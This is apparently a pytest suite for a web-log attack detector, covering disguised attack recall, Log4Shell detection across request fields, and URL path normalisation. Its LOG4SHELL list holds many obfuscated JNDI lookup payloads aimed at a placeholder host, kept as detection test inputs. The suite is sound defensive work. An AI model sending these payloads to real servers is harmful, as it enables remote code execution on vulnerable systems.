"""Attacks in every disguise are found on the way of an event: scan, then a look at what the scan names."""

from collections import Counter

import msgspec
import pytest
from attack_samples import ATTACKS
from disguises import HIDES, REWRITES, disguised

from app.ingest.decode import decode_lines
from detectors.detector import Look, path_of
from detectors.event import Event
from detectors.scanner import Scanner, load_patterns
from detectors.suspicious_activity import SuspiciousActivity, attacks_in

T0 = 1_764_000_000_000
PATTERNS = {p.id: p for p in load_patterns("attacks")}
SCANNER = Scanner(tuple(PATTERNS.values()))
LEAST = 0.97
FAMILIES = {i: t for i, t in ATTACKS.items() if PATTERNS[i].field in ("path", "target", "text")}


def found_in(record: bytes) -> set[str]:
    """What a record hits, from its bytes on."""
    decoded = decode_lines(record, "auto", T0)
    event, record = decoded.events[0], decoded.records[0]
    hits = SCANNER.scan([record]).get(0, [])
    if SuspiciousActivity.tags.isdisjoint(hit if isinstance(hit, str) else hit.id for hit in hits):
        return set()
    return {pattern.id for pattern, _ in attacks_in(Look(event, record, hits), SCANNER)}


def as_combined(target: str) -> bytes:
    written = target.replace('"', "%22").replace(" ", "%20")
    return f'198.51.100.7 - - [23/Nov/2026:10:00:03 +0000] "GET {written} HTTP/1.1" 404 9 "-" "Mozilla/5.0"'.encode()


def as_json(target: str) -> bytes:
    return msgspec.json.encode({"client_ip": "198.51.100.7", "method": "GET", "path": target, "status": 404})


WRITTEN = {"combined": as_combined, "JSON": as_json}


def recall() -> tuple[Counter[str], Counter[str], list[tuple[str, str, str]]]:
    """How often each disguise was tried and found, and (disguise, pattern, record) of what was missed."""
    tried, found, missed = Counter[str](), Counter[str](), []
    for pattern, targets in FAMILIES.items():
        for target in targets:
            for disguise, text in disguised(target):
                for write in WRITTEN.values():
                    record = write(text)
                    tried[disguise] += 1
                    if found_in(record):
                        found[disguise] += 1
                    else:
                        missed.append((disguise, pattern, record.decode()))
    return tried, found, missed


@pytest.fixture(scope="module")
def figures() -> tuple[Counter[str], Counter[str], list[tuple[str, str, str]]]:
    return recall()


@pytest.mark.parametrize("disguise", [*REWRITES, "HTML, named", *HIDES])
def test_attacks_in_a_disguise_are_found(
    figures: tuple[Counter[str], Counter[str], list[tuple[str, str, str]]], disguise: str
) -> None:
    tried, found, missed = figures
    assert tried[disguise] > 200
    assert found[disguise] >= LEAST * tried[disguise], [m[1:] for m in missed if m[0] == disguise][:20]


LOG4SHELL = (
    "${jndi:ldap://x/a}", "${${lower:j}ndi:ldap://x/a}", "${${upper:j}${upper:n}di:rmi://x}",
    "${${::-j}${::-n}${::-d}${::-i}:x}",
    "${${env:X:-j}ndi${env:X:-:}ldap}", "${j${::-n}di:dns://x}", "${jn${lower:d}i:ldap}",
    "${j${main:k5:-Nd}i${spring:k5:-:}ldap}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap}", "${jn${env::-}di:ldap}",
    "${${what:ever:-j}${some:thing:-n}di:x}",
    "${${sys:x:-j}ndi:ldap}", "${${lower:${lower:jndi}}:ldap}", "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap}",
    "${${base64:am5kaTpsZGFwOi8veC9h}}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap}", "$${jndi:ldap://x}", "${JnDi:LdAp://x}",
    "%24%7Bjndi:ldap%7D", "%2524%257Bjndi%253Aldap%257D", "$%7B$%7Blower:j%7Dndi:x%7D", "\\u0024\\u007bjndi:ldap}",
    "\\x24\\x7bjndi:ldap}", "&#36;&#123;jndi:ldap}", "\uff04\uff5bjndi:ldap}", "%ef%bc%84%ef%bd%9bj%6edi:ldap%7d",
)  # fmt: skip


@pytest.mark.parametrize("lookup", LOG4SHELL)
@pytest.mark.parametrize("field", ["path", "user_agent", "referer"])
def test_log4shell_is_found_however_it_is_written_and_wherever(lookup: str, field: str) -> None:
    fields = {"client_ip": "198.51.100.7", "path": "/", "status": 200}
    record = msgspec.json.encode(fields | {field: f"/?x={lookup}" if field == "path" else lookup})
    assert "log4shell" in found_in(record)


@pytest.mark.parametrize(
    "path",
    ["/login", "/login#x", "/lo%67in", "/%6cogin", "/&#108;ogin", "/log&#x69;n#x", "/\uff4cogin", "/%ef%bd%8cogin",
     "/%u006cogin", "/%c1%acogin", "/\\x6cogin", "\\login", "//login", "/./login", "/login/.", "/login;a=b?c=d",
     "/lo%2567in"],
)  # fmt: skip
def test_a_path_is_read_as_the_server_reads_it(path: str) -> None:
    assert path_of(Event(path=path)).endswith("/login")


def test_an_escaped_hash_is_part_of_the_path() -> None:
    assert path_of(Event(path="/login%23x")) == "/login#x"
    assert path_of(Event(path="/a&b#c")) == "/a&b"
